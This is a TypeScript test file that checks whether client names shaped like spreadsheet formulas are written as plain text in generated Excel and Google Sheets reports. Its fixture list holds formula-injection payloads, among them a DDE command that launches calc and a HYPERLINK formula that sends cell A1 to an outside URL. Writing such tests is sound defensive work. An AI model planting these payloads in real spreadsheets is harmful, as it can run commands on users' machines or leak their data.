import { analyse, capabilities, finish, isProblem, reportPages, wordsIn } from '../../../core';
import { newWorkbook, type Workbook } from '../../../embedded/workbook/model/workbook';
import { openInExcel, openInSheets, type OpenHost } from '../open-host';

/** Names of clients that a spreadsheet would take for something else, or that would do something. */
const NAMES: readonly string[] = [
  '=HYPERLINK("http://example.com/?q="&A1;"Счёт")',
  "=cmd|' /C calc'!A0",
  '+1',
  '-1',
  '@x',
  "'quoted",
  '\t=1+1',
  '=1+1',
  '"=1+1"',
];

/** Every client buys twice a month, so that all of them are in every list. */
function book(): Workbook {
  const workbook = newWorkbook('Отгрузки');
  const [sheet] = workbook.sheets;
  sheet!.values = [['Клиент', 'Дата', 'Сумма']];
  for (let sale = 0; sale < 24 * NAMES.length; sale++) {
    const [client = ''] = NAMES.slice(sale % NAMES.length);
    sheet!.values.push([client, 45_300 + Math.floor(sale / NAMES.length) * 15, 100 + sale]);
  }
  sheet!.numberFormats.set({ row: 1, column: 1, rows: 24 * NAMES.length, columns: 1 }, 'dd.mm.yyyy');
  return workbook;
}

test.each([
  ['Excel', openInExcel],
  ['Google Sheets', openInSheets],
] as const)(
  'in %s, names of clients that look like formulas are written as texts, exactly',
  async (_, open: (workbook: Workbook) => OpenHost) => {
    const { host, workbook, missing } = open(book());
    const analysis = await finish(analyse(host, { reports: ['abc', 'rfm'] }, capabilities));
    if (isProblem(analysis)) throw new Error(analysis.problem);
    await host.writePages(reportPages(analysis, wordsIn('ru')));
    const written = workbook.sheets.slice(1);
    expect(written.flatMap((sheet) => [...sheet.formulas.values()])).toEqual([]);
    const lists = written.filter((sheet) => /клиенты/.test(sheet.name));
    expect(lists.length).toBeGreaterThan(1);
    for (const sheet of lists) {
      const texts = new Set(sheet.values.flatMap((row) => row ?? []));
      expect(NAMES.map((name) => name.trim()).filter((name) => !texts.has(name))).toEqual([]);
    }
    expect(missing()).toEqual([]);
  },
);
